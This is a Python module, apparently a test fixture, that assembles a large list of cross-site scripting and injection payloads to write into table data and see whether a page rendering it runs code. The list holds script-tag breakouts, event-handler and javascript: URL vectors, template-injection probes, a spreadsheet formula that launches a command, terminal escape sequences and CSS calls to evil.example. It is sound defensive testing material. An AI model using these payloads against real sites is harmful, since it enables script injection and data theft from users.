"""What somebody writes into a table so that a page which shows it runs code, or breaks."""

from __future__ import annotations

_CODE = "window.__hit=1;alert(1)"
_ENDINGS = [
    "</script>", "</SCRIPT >", "</script\n>", "</script/x>", '"</script>', "'</script>", "\\</script>",
    "]]></script>", "--></script>", "*/</script>", "</title></style></textarea></script>", "</iframe>",
    "<!--", "<!--<script>", "<!--<script></script>-->", "</svg></math>", "</template>", "</noscript>",
    '">', "'>", "`>", "\">'>`></script>", '\u2028"', "\u2029'", "\\u003c/script\\u003e", "%3C/script%3E",
    "&lt;/script&gt;", "\x00</script>", "＜/script＞", "+ADw-/script+AD4-",
]  # fmt: skip
_RUNS = [
    f"<script>{_CODE}</script>", f"<img src=x onerror={_CODE}>", f'<img src="x" onerror="{_CODE}">',
    f"<svg onload={_CODE}>", f"<svg><script>{_CODE}</script></svg>",
    f"<svg><animate onbegin={_CODE} attributeName=x dur=1s>", f"<body onload={_CODE}>",
    f"<iframe src='javascript:{_CODE}'></iframe>", f'<iframe srcdoc="<script>parent.{_CODE}</script>">',
    f"<details open ontoggle={_CODE}>x</details>", f"<input autofocus onfocus={_CODE}>",
    f"<video><source onerror={_CODE}></video>", f"<math><mi xlink:href='javascript:{_CODE}'>x</mi></math>",
    f"<a href='javascript:{_CODE}'>x</a>", f"<object data='javascript:{_CODE}'></object>",
    f"<embed src='javascript:{_CODE}'>", f"<form action='javascript:{_CODE}'><button>x</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CODE}'>", f"<base href='javascript:{_CODE}//'>",
    f"<link rel=stylesheet href='javascript:{_CODE}'>", "<style>*{background:url(//evil.example)}</style>",
    f"<marquee onstart={_CODE}>x</marquee>",
]  # fmt: skip
_ALONE = [
    f"javascript:{_CODE}", f" javascript:{_CODE}//", f"JaVaScRiPt:{_CODE}", f"java\tscript:{_CODE}",
    f"data:text/html,<script>{_CODE}</script>", f"vbscript:{_CODE}", f'" onmouseover="{_CODE}',
    f"' onfocus='{_CODE}' autofocus='", f"` onload=`{_CODE}`", f'x" style="background:url(javascript:{_CODE})',
    "x;background:url(https://evil.example/x)", "expression(alert(1))", "}</style><b>", "*/}body{display:none}",
    f'");{_CODE};//', f"');{_CODE};//", f"`+{_CODE}+`", f"${{{_CODE}}}", f"{{{{{_CODE}}}}}",
    "{{constructor.constructor('window.__hit=1')()}}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}",
    "%{x}", "%s%n%x", "__proto__", "constructor", "toString", "hasOwnProperty", "\u202egnp.exe", "\ufeffx",
    "a\u2028b", "a\u2029b", "\\", '\\"', "\\u2028", "\x1b[31mred", "\x1b]0;title\x07", "[x](javascript:alert(1))",
    f"![x](x){_CODE}", f'<b>bold</b><a href="javascript:{_CODE}">y</a>', "$\\href{javascript:alert(1)}{x}$",
    "=cmd|' /C calc'!A0", "💥</script>💥", "‹script›", "a‹b", "a<b", "&amp;&quot;&#60;b&#62;",
]  # fmt: skip

PAYLOADS: list[str] = list(
    dict.fromkeys(
        [
            *(f"{end}{_RUNS[i % 8]}" for i, end in enumerate(_ENDINGS)),
            *(f"{end}{_RUNS[8 + i % 14]}" for i, end in enumerate(_ENDINGS)),
            *(f"{end}<script>{_CODE}</script>" for end in _ENDINGS),
            *(f"x{end}<img src=x onerror={_CODE}>" for end in _ENDINGS),
            *(f"{end}{run}" for end in _ENDINGS[:3] for run in _RUNS[:8]),
            *_RUNS,
            *_ALONE,
        ]
    )
)
